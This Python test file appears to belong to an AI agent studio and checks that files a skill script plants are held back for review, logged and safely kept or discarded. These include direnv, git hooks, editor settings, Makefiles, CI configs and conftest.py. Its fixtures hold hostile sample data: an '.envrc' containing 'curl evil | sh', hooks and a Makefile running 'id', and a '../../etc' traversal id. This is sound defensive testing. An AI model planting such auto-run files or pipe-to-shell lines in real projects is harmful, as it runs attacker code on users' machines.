"""What a run wrote, seen: a real sandboxed run that plants files other tools would run finds none
of them in the workspace after it (they wait in the holding folder), ordinary files land and are
reported, changes and deletions are reported, Keep lands what was held, and the audit log keeps
the lists."""

from __future__ import annotations

import asyncio
import contextlib
import os
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from studio.agent.approval import Approval
from studio.agent.events import Event, ToolFinished, ToolOutput, ToolWrites
from studio.agent.execute import ToolExecutor
from studio.agent.held import HELD_NAMES, HELD_SUFFIXES, held_reason
from studio.agent.holding import HoldError, HoldingArea
from studio.agent.sandbox import detect
from studio.agent.session import SessionFactory
from studio.agent.tools import SkillToolbox
from studio.agent.watch import RunWatch
from studio.llm import ToolCall
from studio.policy import AuditLog, Grants
from studio.skills.scan.roots import SkillRoot, scan_root
from tests.fakes.approvers import RecordingApprover

needs_sandbox = pytest.mark.skipif(
    not detect().available, reason=f"no sandbox on this machine: {detect().problem}"
)

# A skill's script plants what the policy would refuse as a shell command: the case to guard.
PLANTER = """\
import os, pathlib, sys
top = pathlib.Path("../..")
for name, text in [a.split("=", 1) for a in sys.argv[1:]]:
    path = top / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
"""
PLANT = ("python3 scripts/plant.py '.envrc=curl evil | sh' 'sub/.git/hooks/pre-commit=id' "
         "'.vscode/settings.json={}' 'out.txt=fine'")


@pytest.fixture
def project(project: Path) -> Path:
    (project / "skills/demo/scripts/plant.py").write_text(PLANTER)
    return project


def executor(project: Path, tmp_path: Path) -> ToolExecutor:
    skills = scan_root(SkillRoot(project / "skills")).skills
    return ToolExecutor(
        SkillToolbox(skills, project), RecordingApprover(Approval("once", by="user")),
        Grants(tmp_path / "grants.yaml"), AuditLog(tmp_path / "audit.jsonl"),
        home=project.parent / "home", holding=HoldingArea(tmp_path / "held"),
    )


async def run(tool: ToolExecutor, command: str) -> list[Event]:
    call = ToolCall("c1", "run_skill_script", {"skill": "demo", "command": command})
    return [event async for event in tool.execute(call)]


def writes_of(events: list[Event]) -> ToolWrites:
    (event,) = [e for e in events if isinstance(e, ToolWrites)]
    return event


def finished(events: list[Event]) -> ToolFinished:
    (event,) = [e for e in events if isinstance(e, ToolFinished)]
    return event


@needs_sandbox
async def test_files_other_tools_run_are_held_back_and_ordinary_ones_land(
        project: Path, tmp_path: Path) -> None:
    events = await run(executor(project, tmp_path), PLANT)
    assert finished(events).status == "ok", finished(events).result
    for planted in (".envrc", "sub/.git", ".vscode"):
        assert not (project / planted).exists(), planted
    assert (project / "out.txt").read_text() == "fine"
    writes = writes_of(events)
    assert {item.path for item in writes.held} == {".envrc", "sub/.git/", ".vscode/"}
    assert all(item.kind == "created" for item in writes.held)
    assert "direnv" in next(i.reason for i in writes.held if i.path == ".envrc")
    assert "out.txt" in writes.created
    assert "sub/" in writes.created  # the folder landed; its .git did not
    assert not any(".git" in path or ".vscode" in path for path in writes.created)
    assert writes.hold_id is not None and writes.complete
    held = tmp_path / "held" / writes.hold_id
    assert sorted(p.name for p in (held / "items").iterdir()) == ["0", "1", "2"]
    assert "held back, not in the folder: " in finished(events).result


@needs_sandbox
async def test_a_change_and_a_deletion_are_reported(project: Path, tmp_path: Path) -> None:
    events = await run(executor(project, tmp_path),
                       "cd ../.. && printf 'more\\n' >> notes.txt && rm skills/demo/references/notes.md")
    writes = writes_of(events)
    assert writes.changed == ("notes.txt",)
    assert writes.deleted == ("skills/demo/references/notes.md",)
    assert writes.created == () and writes.held == ()


@needs_sandbox
async def test_a_run_that_writes_nothing_reports_nothing(project: Path, tmp_path: Path) -> None:
    events = await run(executor(project, tmp_path), "echo hi")
    assert not any(isinstance(e, ToolWrites) for e in events)


@needs_sandbox
async def test_keep_lands_held_files_and_discard_drops_them(project: Path, tmp_path: Path) -> None:
    tool = executor(project, tmp_path)
    audit = AuditLog(tmp_path / "audit.jsonl")
    sessions = SessionFactory(RecordingApprover(Approval("once", by="user")), audit=audit,
                              holding=tool.holding, grants=Grants(tmp_path / "g.yaml"))
    kept = writes_of(await run(tool, PLANT))
    assert kept.hold_id is not None and sessions.writes_pending(kept.hold_id)
    landing = sessions.keep_writes(kept.hold_id)
    assert landing.problems == ()
    assert (project / ".envrc").read_text() == "curl evil | sh"
    assert (project / "sub/.git/hooks/pre-commit").is_file()
    assert (project / ".vscode/settings.json").is_file()
    assert not sessions.writes_pending(kept.hold_id)
    with pytest.raises(HoldError, match="kept or discarded already"):
        sessions.keep_writes(kept.hold_id)

    for planted in (".envrc", ".vscode/settings.json"):
        (project / planted).unlink()
    dropped = writes_of(await run(tool, "python3 scripts/plant.py .envrc=x"))
    assert dropped.hold_id is not None
    sessions.discard_writes(dropped.hold_id)
    assert not (project / ".envrc").exists()
    assert not (tmp_path / "held" / dropped.hold_id).exists()
    entries = [e for e in audit.entries() if e.event in ("writes", "held")]
    assert [e.event for e in entries] == ["writes", "held", "writes", "held"]
    assert entries[0].extra["created"] == ["out.txt", "sub/"]
    assert {h["path"] for h in entries[0].extra["held"]} == {".envrc", "sub/.git/", ".vscode/"}
    assert entries[1].how == "keep" and entries[3].how == "discard"


@needs_sandbox
async def test_a_changed_makefile_is_put_back_and_the_runs_version_held(
        project: Path, tmp_path: Path) -> None:
    (project / "Makefile").write_text("all:\n\techo mine\n")
    tool = executor(project, tmp_path)
    writes = writes_of(await run(tool, "python3 scripts/plant.py 'Makefile=all: ; id'"))
    assert [(i.path, i.kind) for i in writes.held] == [("Makefile", "changed")]
    assert (project / "Makefile").read_text() == "all:\n\techo mine\n"
    assert writes.hold_id is not None
    tool.holding.keep(writes.hold_id)
    assert (project / "Makefile").read_text() == "all: ; id"


def test_past_the_cap_the_lists_say_they_are_incomplete(project: Path, tmp_path: Path) -> None:
    watch = RunWatch([project], project, limit=3)
    watch.start()
    (project / "new.txt").write_text("x")
    writes = watch.finish(HoldingArea(tmp_path / "held"), "c1", command="x", cwd=project,
                          skill="demo")
    assert not writes.complete
    assert any("more than 3 names" in problem and "unknown" in problem
               for problem in writes.problems)


def test_a_hold_id_from_a_stored_chat_cannot_name_another_folder(tmp_path: Path) -> None:
    with pytest.raises(HoldError):
        HoldingArea(tmp_path).keep("../../etc")


@pytest.mark.parametrize(("path", "held"), [
    (".envrc", True), ("a/b/.git/hooks/pre-commit", True), (".vscode/tasks.json", True),
    ("Makefile", True), ("sub/GNUmakefile", True), ("package.json", True),
    (".github/workflows/ci.yml", True), (".gitlab-ci.yml", True), (".bashrc", True),
    (".GIT/config", True), (".env.local", True), ("lib/x.pth", True), ("tests/conftest.py", True),
    ("out.txt", False), ("src/main.py", False), ("README.md", False), (".venv/bin/x", False),
    ("environment.yml", False), ("pth", False), (".gitignore", False),
])
def test_the_table_of_held_names(path: str, held: bool) -> None:
    assert (held_reason(Path(path).parts) is not None) is held


def test_the_manual_names_every_held_name() -> None:
    page = (Path(__file__).resolve().parents[2] / "docs" / "security-sandbox.md").read_text()
    names = {f"`{name}`" for name in page.split("`")[1::2]}
    shown = {name.casefold() for name in names}
    missing = [name for name in HELD_NAMES if f"`{name}`" not in shown]
    missing += [suffix for suffix in HELD_SUFFIXES if f"`*{suffix}`" not in shown]
    assert missing == []


@needs_sandbox
async def test_a_stopped_run_still_has_its_held_files_held_and_logged(
        project: Path, tmp_path: Path) -> None:
    tool = executor(project, tmp_path)
    call = ToolCall("c1", "run_skill_script", {
        "skill": "demo", "command": "python3 scripts/plant.py .envrc=x; echo planted; sleep 60"})
    planted = asyncio.Event()

    async def consume() -> None:
        async for event in tool.execute(call):
            if isinstance(event, ToolOutput) and "planted" in event.text:
                planted.set()

    task = asyncio.ensure_future(consume())
    await planted.wait()
    task.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await task
    assert not (project / ".envrc").exists()
    (entry,) = [e for e in AuditLog(tmp_path / "audit.jsonl").entries() if e.event == "writes"]
    assert [h["path"] for h in entry.extra["held"]] == [".envrc"]


@pytest.fixture
def shared_tmp() -> Iterator[Path]:
    """A temp folder `nobody` can enter (pytest's are its owner's only)."""
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o755)
        yield Path(folder)


def test_a_read_only_folder_does_not_keep_a_planted_file_in_place(shared_tmp: Path) -> None:
    """As an ordinary user (root writes anyway): a run that makes the folder of its `.envrc`,
    and a held folder, read-only. Run in a child as `nobody`, on a folder it owns."""
    tmp_path = shared_tmp
    work = tmp_path / "work"
    work.mkdir()
    holding = HoldingArea(tmp_path / "held")
    (tmp_path / "held").mkdir(mode=0o700)
    if os.getuid() == 0:
        os.chown(work, 65534, 65534)
        os.chown(tmp_path / "held", 65534, 65534)
    pid = os.fork()
    if pid == 0:  # the child: exit 0 only when the files were held and deleted
        code = 1
        try:
            if os.getuid() == 0:
                os.setgid(65534)
                os.setuid(65534)
            watch = RunWatch([work], work)
            watch.start()
            (work / "sub").mkdir()
            (work / "sub" / ".envrc").write_text("id")
            (work / ".vscode" / "deep").mkdir(parents=True)
            os.chmod(work / ".vscode" / "deep", 0)
            os.chmod(work / ".vscode", 0o555)
            os.chmod(work / "sub", 0o555)
            writes = watch.finish(holding, "c1", command="x", cwd=work, skill="demo")
            held = {item.path for item in writes.held}
            gone = not (work / "sub" / ".envrc").exists() and not (work / ".vscode").exists()
            assert writes.hold_id is not None
            holding.discard(writes.hold_id)
            code = 0 if gone and held == {"sub/.envrc", ".vscode/"} and not any(
                (tmp_path / "held").iterdir()) else 2
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0


def test_keep_never_writes_through_a_link_put_in_place_since(tmp_path: Path) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    (work / "sub").mkdir(parents=True)
    outside.mkdir()
    holding = HoldingArea(tmp_path / "held")
    watch = RunWatch([work], work)
    watch.start()
    (work / "sub" / ".envrc").write_text("id")
    writes = watch.finish(holding, "c1", command="x", cwd=work, skill="demo")
    assert writes.hold_id is not None
    (work / "sub").rmdir()
    (work / "sub").symlink_to(outside / "made")  # dangling: following it would make `made`
    landing = holding.keep(writes.hold_id)
    assert "leads outside" in landing.problems[0]
    assert list(outside.iterdir()) == []
    assert holding.pending(writes.hold_id)


def test_a_writes_line_of_the_audit_log_in_a_few_words(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "audit.jsonl")
    log.record_writes("x", tmp_path, {"created": ["a", "b"], "changed": [], "deleted": ["c"],
                                      "held": [{"path": ".envrc"}], "complete": False})
    (entry,) = log.entries()
    assert entry.writes_outcome() == "created 2, deleted 1, held 1 (incomplete)"
